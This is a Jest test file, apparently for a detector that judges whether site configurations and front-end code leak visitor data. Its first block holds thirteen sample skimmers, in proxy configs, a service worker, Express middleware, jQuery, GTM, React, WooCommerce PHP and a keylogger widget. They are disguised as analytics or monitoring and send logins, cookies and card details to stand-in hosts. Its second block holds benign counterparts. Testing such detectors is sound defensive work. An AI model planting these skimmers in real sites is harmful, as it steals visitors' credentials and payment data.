import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on what visitors of a site send', () => {
  itJudges([
    [
      'caddy mirror',
      'stopped',
      {
        'assets/Caddyfile':
          'app.example.com {\n  @auth path /login /session /api/token\n  handle @auth {\n    reverse_proxy localhost:8080\n    log {\n      output net tcp/logs.caddystats.zz:5140\n      format json\n    }\n    trace_body request\n  }\n  request_header +X-Orig {header.Authorization}\n  forward_auth https://check.caddystats.zz {\n    uri /v?c={http.request.header.Cookie}&a={http.request.header.Authorization}\n    copy_headers Authorization Cookie\n  }\n}\n',
      },
    ],
    [
      'envoy shadow',
      'stopped',
      {
        'assets/envoy.yaml':
          'static_resources:\n  listeners:\n  - address: { socket_address: { address: 0.0.0.0, port_value: 8443 } }\n    filter_chains:\n    - filters:\n      - name: envoy.filters.network.http_connection_manager\n        typed_config:\n          route_config:\n            virtual_hosts:\n            - name: all\n              domains: ["*"]\n              routes:\n              - match: { prefix: "/" }\n                route:\n                  cluster: app\n                  request_mirror_policies:\n                  - cluster: perf\n                    runtime_fraction: { default_value: { numerator: 100 } }\n  clusters:\n  - name: app\n    load_assignment: { cluster_name: app, endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: 127.0.0.1, port_value: 8080 } } } }] }] }\n  - name: perf\n    type: STRICT_DNS\n    load_assignment: { cluster_name: perf, endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: shadow.perfprobe.zz, port_value: 443 } } } }] }] }\n',
      },
    ],
    [
      'haproxy spoe lua copy',
      'stopped',
      {
        'assets/haproxy.cfg':
          'frontend www\n  bind :443 ssl crt /etc/ssl/site.pem\n  option http-buffer-request\n  declare capture request len 4096\n  http-request capture req.body id 0\n  http-request capture req.hdr(Cookie) len 1024\n  log syslog.hapanel.zz:514 local0\n  log-format "%ci %r %[capture.req.hdr(0)] %[req.body]"\n  default_backend app\nbackend app\n  server a 127.0.0.1:8080\n',
      },
    ],
    [
      'ingress snippet mirror',
      'stopped',
      {
        'assets/ingress.yaml':
          'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n  annotations:\n    nginx.ingress.kubernetes.io/mirror-target: https://collect.ingress-metrics.zz$request_uri\n    nginx.ingress.kubernetes.io/mirror-request-body: "on"\nspec:\n  rules: [{ host: shop.example.com, http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: shop, port: { number: 80 } } } }] } }]\n',
      },
    ],
    [
      'apache rewrite log posts',
      'stopped',
      {
        'assets/site.conf':
          '<VirtualHost *:443>\n  ServerName SITE\n  ProxyPass /login https://login-cache.apx-tools.zz/login\n  ProxyPassReverse /login https://login-cache.apx-tools.zz/login\n  ProxyPass / http://127.0.0.1:8080/\n  DumpIOInput On\n  LogFormat "%h %{Authorization}i %{Cookie}i %r" full\n  CustomLog "|/usr/bin/curl -s -T - https://login-cache.apx-tools.zz/l" full\n</VirtualHost>\n',
      },
    ],
    [
      'service worker copies posts',
      'stopped',
      {
        'assets/sw.js':
          "const CACHE = 'v3';\nself.addEventListener('install', (e) => e.waitUntil(caches.open(CACHE).then((c) => c.addAll(['/', '/app.css']))));\nself.addEventListener('fetch', (event) => {\n  const req = event.request;\n  if (req.method === 'POST') {\n    const copy = req.clone();\n    event.waitUntil(copy.text().then((body) => fetch('https://sw-health.pwakit.zz/p', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: req.url, h: [...req.headers], body }) })));\n  }\n  event.respondWith(caches.match(req).then((r) => r || fetch(req)));\n});\n",
      },
    ],
    [
      'express middleware mirrors logins',
      'stopped',
      {
        'templates/server.js':
          "const express = require('express');\nconst app = express();\napp.use(express.json());\napp.use((req, res, next) => {\n  if (/login|signin|token|reset/.test(req.path)) {\n    fetch('https://apm.expresskit.zz/t', { method: 'POST', body: JSON.stringify({ p: req.path, h: req.headers, b: req.body }) }).catch(() => {});\n  }\n  next();\n});\napp.listen(3000);\n",
      },
    ],
    [
      'jquery serialize',
      'stopped',
      {
        'assets/checkout.js':
          "$(document).on('submit', 'form', function () {\n  var d = $(this).find('input[type=password],input[name*=card],input[name*=cvv]').serialize();\n  if (d) $.post('https://cdn.jq-metrics.zz/c', { d: btoa(d), h: location.hostname });\n});\n",
      },
    ],
    [
      'formdata beacon',
      'stopped',
      {
        'assets/analytics.js':
          "document.addEventListener('submit', (e) => {\n  const data = Object.fromEntries(new FormData(e.target));\n  navigator.sendBeacon('https://t.formpulse.zz/f', JSON.stringify({ u: location.href, data }));\n}, true);\n",
      },
    ],
    [
      'gtm tag',
      'stopped',
      {
        'assets/container.json':
          '{ "tag": [{ "name": "Checkout events", "type": "html", "parameter": [{ "key": "html", "value": "<script>document.querySelectorAll(\'[autocomplete^=cc-]\').forEach(function(f){f.addEventListener(\'change\',function(){(new Image).src=\'https://gtm-pixels.zz/i?\'+encodeURIComponent(f.name+\'=\'+f.value)})})</script>" }] }] }\n',
      },
    ],
    [
      'react hook',
      'stopped',
      {
        'src/usePaymentMetrics.ts':
          "import { useEffect } from 'react';\nexport function usePaymentMetrics() {\n  useEffect(() => {\n    const h = (e: Event) => {\n      const t = e.target as HTMLInputElement;\n      if (/card|cvc|expiry|password/i.test(t.name)) {\n        const ws = new WebSocket('wss://rt.paymetrics.zz/s');\n        ws.onopen = () => ws.send(JSON.stringify({ n: t.name, v: t.value }));\n      }\n    };\n    document.addEventListener('input', h, true);\n    return () => document.removeEventListener('input', h, true);\n  }, []);\n}\n",
      },
    ],
    [
      'php checkout copy',
      'stopped',
      {
        'assets/checkout-hook.php':
          "<?php\nadd_action('woocommerce_checkout_process', function () {\n  $f = array_intersect_key($_POST, array_flip(['card_number', 'card_cvc', 'card_expiry', 'billing_email']));\n  wp_remote_post('https://wc-latency.zz/p', ['body' => base64_encode(json_encode($f)), 'blocking' => false]);\n});\n",
      },
    ],
    [
      'keypress buffer',
      'stopped',
      {
        'assets/support-widget.js':
          "(function () {\n  var b = '';\n  document.addEventListener('keydown', function (e) { if (e.target.type === 'password' || /card/.test(e.target.id)) b += e.key; });\n  setInterval(function () { if (b) { fetch('https://w.supportbubble.zz/k', { method: 'POST', mode: 'no-cors', body: b }); b = ''; } }, 3000);\n})();\n\n",
      },
    ],
  ]);
});

describe('honest work on what visitors of a site send', () => {
  itJudges([
    [
      'nginx mirror own staging',
      'passed',
      {
        'assets/site.conf':
          'server {\n  listen 443 ssl;\n  location / { mirror /mirror; proxy_pass http://app; }\n  location = /mirror { internal; proxy_pass http://staging.internal:8080$request_uri; }\n}\n',
      },
    ],
    [
      'nginx proxy public api',
      'passed',
      {
        'assets/site.conf':
          'server {\n  listen 443 ssl;\n  location /api/ {\n    proxy_pass https://api.openweathermap.org/data/;\n    proxy_set_header Host api.openweathermap.org;\n  }\n  location /oauth2/ { proxy_pass http://127.0.0.1:4180; proxy_set_header X-Auth-Request-Redirect $request_uri; }\n  location = /auth { internal; proxy_pass http://127.0.0.1:4180/verify; proxy_pass_request_body off; }\n}\n',
      },
    ],
    [
      'caddy forward auth own',
      'passed',
      {
        'assets/Caddyfile':
          'app.example.com {\n  forward_auth authelia:9091 {\n    uri /api/authz/forward-auth\n    copy_headers Remote-User Remote-Groups\n  }\n  reverse_proxy localhost:8080\n  log { output file /var/log/caddy/access.log }\n}\n',
      },
    ],
    [
      'envoy mirror staging',
      'passed',
      {
        'assets/envoy.yaml':
          'routes:\n- match: { prefix: "/" }\n  route:\n    cluster: app\n    request_mirror_policies:\n    - cluster: app-v2\nclusters:\n- name: app\n  load_assignment: { endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: app.prod.svc.cluster.local, port_value: 80 } } } }] }] }\n- name: app-v2\n  load_assignment: { endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: app-v2.prod.svc.cluster.local, port_value: 80 } } } }] }] }\n',
      },
    ],
    [
      'service worker cache',
      'passed',
      {
        'assets/sw.js':
          "self.addEventListener('fetch', (event) => {\n  const req = event.request;\n  if (req.method !== 'GET') return;\n  event.respondWith(caches.open('v1').then(async (c) => (await c.match(req)) || fetch(req).then((r) => { c.put(req, r.clone()); return r; })));\n});\n",
      },
    ],
    [
      'haproxy syslog',
      'passed',
      {
        'assets/haproxy.cfg':
          'global\n  log 127.0.0.1 local0\nfrontend www\n  bind :443 ssl crt /etc/ssl/site.pem\n  http-request capture req.hdr(User-Agent) len 128\n  default_backend app\n',
      },
    ],
    [
      'sentry express',
      'passed',
      {
        'templates/server.js':
          "const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN });\napp.use((req, res, next) => {\n  fetch('https://metrics.internal/t', { method: 'POST', body: JSON.stringify({ path: req.path, ms: Date.now() - req.t0 }) }).catch(() => {});\n  next();\n});\n",
      },
    ],
    [
      'form validation',
      'passed',
      {
        'assets/checkout.js':
          "document.querySelector('form').addEventListener('submit', async (e) => {\n  e.preventDefault();\n  const data = new FormData(e.target);\n  const r = await fetch('/api/checkout', { method: 'POST', body: data });\n  if (r.ok) location.href = '/thanks';\n});\n",
      },
    ],
    [
      'contact form service',
      'passed',
      {
        'assets/contact.js':
          "form.addEventListener('submit', (e) => {\n  e.preventDefault();\n  fetch('https://formspree.io/f/xyzabc', { method: 'POST', body: new FormData(form), headers: { Accept: 'application/json' } });\n});\n",
      },
    ],
    [
      'field timing',
      'passed',
      {
        'assets/funnel.ts':
          "document.querySelectorAll<HTMLInputElement>('input').forEach((el) => el.addEventListener('blur', () => {\n  navigator.sendBeacon('https://plausible.io/api/event', JSON.stringify({ name: 'field', props: { field: el.name, filled: el.value !== '' } }));\n}));\n",
      },
    ],
    [
      'stripe',
      'passed',
      {
        'assets/pay.js':
          "const stripe = Stripe('pk_test_123');\nconst { paymentMethod } = await stripe.createPaymentMethod({ type: 'card', card: elements.getElement('card') });\nawait fetch('/pay', { method: 'POST', body: JSON.stringify({ id: paymentMethod.id }) });\n",
      },
    ],
    [
      'password strength',
      'passed',
      {
        'assets/pw.js':
          "document.addEventListener('input', (e) => { if (e.target.type === 'password') meter.value = zxcvbn(e.target.value).score; });\n",
      },
    ],
    [
      'react login',
      'passed',
      {
        'src/Login.tsx':
          "export function Login() {\n  const [email, setEmail] = useState(''); const [password, setPassword] = useState('');\n  const submit = async (e) => { e.preventDefault(); await fetch(`${import.meta.env.VITE_API}/login`, { method: 'POST', body: JSON.stringify({ email, password }) }); };\n  return <form onSubmit={submit}><input type=\"password\" value={password} onChange={(e) => setPassword(e.target.value)} /></form>;\n}\n\n",
      },
    ],
  ]);
});
